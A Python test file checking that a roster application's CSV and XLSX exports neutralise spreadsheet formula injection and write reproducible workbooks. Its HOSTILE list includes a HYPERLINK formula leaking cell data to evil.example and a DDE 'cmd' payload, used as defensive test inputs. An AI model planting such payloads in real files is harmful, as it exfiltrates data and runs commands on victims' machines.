"""Every CSV or XLSX the project writes keeps typed text from running as a formula (D7).

The files are written for real and read back with the csv module and openpyxl.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from xml.etree.ElementTree import canonicalize
from zoneinfo import ZoneInfo

import et_xmlfile
import openpyxl
import openpyxl.worksheet._writer
import pytest
import time_machine
from openpyxl import Workbook, load_workbook
from openpyxl.cell._writer import etree_write_cell

from cli.roster import INVITE_COLUMNS
from core import tabular
from core.tabular import (
    FORMULA_PREFIXES,
    Sheet,
    csv_writer,
    plain_cell,
    safe_cell,
    write_workbook,
    write_xlsx,
)
from models.base import db
from tests import factories as f

ROOT = Path(__file__).resolve().parent.parent

# Names people (or an attacker filling in a form) could give, and a branch named like a formula.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点我")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd",
    "\t=1+2",  # a spreadsheet that strips the tab would see =1+2
    "\r=1+2",
    "=1+1",
]
BRANCH = "=1+1"


def assert_inert(cells: list[Any]) -> None:
    for cell in cells:
        if isinstance(cell, str):
            assert not cell.startswith(FORMULA_PREFIXES), repr(cell)


def test_safe_cell_follows_owasp():
    for text in HOSTILE:
        assert safe_cell(text) == "'" + text
    for value in ("张三", "第一党支部", "2026-06-10", "", "'=already quoted", -5, 3.5, None):
        assert safe_cell(value) == value


def test_plain_cell_reads_back_what_safe_cell_marked():
    for text in HOSTILE:
        assert plain_cell(safe_cell(text)) == text
    # Only an apostrophe before a formula's first character is the export's mark.
    for value in ("'张三", "'", "''=1", "'x=1", "张'=1", "=1+1", "", -5, None):
        assert plain_cell(value) == value


def test_roster_invite_csv_neutralises_formulas(app, tmp_path):
    with app.app_context(), db.connection_context():
        branch = f.branch(BRANCH)
        for i, name in enumerate(HOSTILE):
            f.member(name, branch, phone=f"1380000{i:04d}")
        f.member("张三", branch, phone="13800009999")
    out = tmp_path / "codes.csv"
    result = app.test_cli_runner().invoke(args=["roster", "invite", "--out", str(out)])
    assert result.exit_code == 0, result.output
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows[0] == INVITE_COLUMNS
    by_phone = {row[2][-4:]: row for row in rows[1:]}
    for i, name in enumerate(HOSTILE):
        row = by_phone[f"{i:04d}"]
        assert row[:2] == ["'" + BRANCH, "'" + name]  # the text kept, after the apostrophe
    assert by_phone["9999"][1] == "张三"  # ordinary names are untouched
    for row in rows:
        assert_inert(row)


def test_csv_writer_quotes_every_cell(tmp_path):
    buffer = io.StringIO(newline="")
    csv_writer(buffer).writerows([["a;=1+2", "@x", 7], ["-3", "", None]])
    text = buffer.getvalue()
    assert text.splitlines() == ['"a;=1+2","\'@x","7"', '"\'-3","",""']
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == [["a;=1+2", "'@x", "7"], ["'-3", "", ""]]


def test_xlsx_cells_are_text_not_formulas(tmp_path):
    path = tmp_path / "out.xlsx"
    write_xlsx(path, [["姓名", "数"], *[[name, -5] for name in HOSTILE], ["a\x00b", 3.5]])
    ws = load_workbook(path).active
    rows = list(ws.iter_rows())
    assert [c.value for c in rows[0]] == ["姓名", "数"]
    for name, (text, number) in zip(HOSTILE, rows[1:], strict=False):
        assert text.data_type == "s", (name, text.data_type)
        # A CR comes back as written (openpyxl with lxml escapes it) or as LF (without lxml,
        # XML reads a raw CR back as LF); the apostrophe in front is what matters.
        assert text.value in ("'" + name, ("'" + name).replace("\r", "\n"))
        assert (number.data_type, number.value) == ("n", -5)
    assert rows[-1][0].value == "a\ufffdb"  # XML cannot hold NUL: replaced, not a crash
    for row in rows:
        assert_inert([c.value for c in row])
    # Not even openpyxl's own reading in formula mode sees a formula.
    assert all(c.data_type != "f" for row in load_workbook(path).active.iter_rows() for c in row)


# A CSV or XLSX written any other way than through core.tabular.
RAW_WRITERS = re.compile(
    r"csv\.writer\(|csv\.DictWriter\(|\bWorkbook\(|xlsxwriter|\.to_csv\(|\.to_excel\("
)
PRODUCT = ["api", "bot", "core", "handlers", "models", "scheduler", "web", "app.py"]


def test_every_writer_goes_through_the_helper():
    offenders = []
    for top in PRODUCT:
        base = ROOT / top
        files = [base] if base.is_file() else sorted(base.rglob("*.py"))
        for path in files:
            if path == ROOT / "core" / "tabular.py":
                continue
            for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), 1):
                if RAW_WRITERS.search(line):
                    offenders.append(f"{path.relative_to(ROOT)}:{number}: {line.strip()}")
    assert offenders == [], "write CSV/XLSX with core.tabular.csv_writer / write_xlsx"


# ---- report workbooks: the rows written directly are openpyxl's own ---------------------------

DAY = "yyyy-mm-dd"
ODD_VALUES = [
    *HOSTILE,
    "",
    "   ",
    " 前后有空格 ",
    "末尾换行\n",
    "a & b < c > d \"引号\" 'x' ]]>",
    "行一\r\n行二\t制表",
    "a\x00b\x1fc",
    "表情😀",
    "#N/A",
    "长" * 40000,  # cut at 32,767 as openpyxl cuts it
    0,
    -7,
    2**53 + 1,
    0.1,
    -0.0,
    1e21,
    3.14159265358979,
    float("nan"),
    float("inf"),
    Decimal("123.45"),
    Decimal("-0.01"),
    Decimal("12748680.39"),
    True,
    False,
    date(2026, 11, 30),
    datetime(2026, 11, 30, 8, 5),
    None,
]


def _odd_sheets() -> list[Sheet]:
    rows = [[value, value, value, value] for value in ODD_VALUES]
    rows += [[], [None, None], ["只有一格"]]
    return [
        Sheet(
            "甲",
            ("文本", "金额", "比率", "日期"),
            iter(rows),  # rows may be a generator
            widths=[10, 12, 8, 12],
            formats={1: "#,##0.00", 2: "0.0%", 3: DAY},
            totals=[["合计", "", Decimal("1.50"), None, 3], ["其中", 2.5, "", date(2026, 1, 1)]],
            landscape=True,
        ),
        Sheet("乙", ("名称",), [["=1+1", 5, 0.25]], formats={2: "0.0%"}, totals=[["合计", 5]]),
    ]


def _openpyxl_workbook(sheets: list[Sheet], created: datetime) -> bytes:
    """The report workbook as openpyxl's write-only worksheet writes every row (as
    write_workbook did before it wrote the rows itself)."""
    wb = Workbook(write_only=True)
    wb.properties.created = created
    for spec in sheets:
        ws = tabular._new_sheet(wb, spec)
        for bold, rows in ((False, spec.rows), (True, spec.totals)):
            for row in rows:
                ws.append(
                    [
                        tabular._styled(ws, value, spec.formats.get(index), bold)
                        for index, value in enumerate(row)
                    ]
                )
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


@pytest.mark.filterwarnings("ignore:Cell .* is marked as a date")  # numbers in the date column
def test_report_rows_are_written_as_openpyxl_writes_them(monkeypatch):
    created = datetime(2026, 11, 1)
    ours = io.BytesIO()
    write_workbook(ours, _odd_sheets(), created=created)
    # The reference as deployed (requirements.lock installs no lxml): openpyxl's own
    # serializer, even where lxml is importable (it writes a CR as &#xD;, which is kept).
    monkeypatch.setattr(openpyxl.worksheet._writer, "write_cell", etree_write_cell)
    monkeypatch.setattr(openpyxl.worksheet._writer, "xmlfile", et_xmlfile.xmlfile)
    theirs = _openpyxl_workbook(_odd_sheets(), created)
    with zipfile.ZipFile(ours) as a, zipfile.ZipFile(io.BytesIO(theirs)) as b:
        assert a.namelist() == b.namelist()
        for name in a.namelist():
            if name == "docProps/core.xml":  # openpyxl's says when it was written
                continue
            mine, reference = a.read(name), b.read(name)
            if name.endswith(".xml"):
                assert canonicalize(mine.decode()) == canonicalize(reference.decode()), name
            if not openpyxl.LXML:  # lxml serializes the same XML differently
                assert mine == reference, name
    wb = load_workbook(ours)
    first = [[c.value for c in row] for row in wb["甲"].iter_rows()]
    assert first[0][:4] == ["文本", "金额", "比率", "日期"]
    assert first[1][:4] == ["'" + HOSTILE[0]] * 4
    assert wb["甲"]["B2"].data_type == "s"
    assert [c.value for c in wb["乙"][2]] == ["'=1+1", 5, 0.25]
    assert wb["乙"]["C2"].number_format == "0.0%" and wb["乙"]["A3"].font.b


def test_report_workbook_is_the_same_for_the_same_sheets():
    one, two = io.BytesIO(), io.BytesIO()
    write_workbook(one, _odd_sheets(), created=datetime(2026, 11, 1))
    write_workbook(two, _odd_sheets(), created=datetime(2026, 11, 1))
    assert one.getvalue() == two.getvalue()


def test_the_same_roster_gives_the_same_bytes_whenever_it_is_written(conn, settings):
    from handlers.reports.roster import roster_bytes, roster_rows

    br = f.branch("第一党支部")
    f.member("张三", br, phone="13800000001")
    taken = datetime(2026, 9, 15, 10, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
    export = roster_rows(None, branch_id=br.id, settings=settings, now=taken)
    with time_machine.travel(taken, tick=False):
        first = roster_bytes(export, "xlsx")
    with time_machine.travel(taken + timedelta(hours=30, seconds=7), tick=False):
        again = roster_bytes(export, "xlsx")
    assert first == again
    with zipfile.ZipFile(io.BytesIO(first)) as archive:
        core = archive.read("docProps/core.xml").decode()
        assert {i.date_time for i in archive.infolist()} == {(2026, 9, 15, 0, 0, 0)}
    assert "2026-09-15T00:00:00Z" in core
